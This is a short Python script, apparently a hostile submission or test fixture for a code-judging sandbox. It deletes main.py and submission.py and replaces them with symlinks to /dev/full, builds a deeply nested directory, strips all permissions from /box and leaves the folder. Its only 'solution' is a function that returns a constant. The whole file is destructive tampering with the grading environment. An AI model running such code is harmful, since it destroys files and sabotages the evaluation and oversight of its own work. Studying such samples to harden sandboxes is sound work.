"""Fills its folder with what cannot be removed, takes its rights away, and leaves it."""

import os

os.makedirs("/box/" + "a" * 200 + "/b/c", exist_ok=True)
for name in ("main.py", "submission.py"):
    try:
        os.unlink(name)
        os.symlink("/dev/full", name)
    except OSError:
        pass
os.chmod("/box", 0)
os.chdir("/")


def f(x):
    return 7
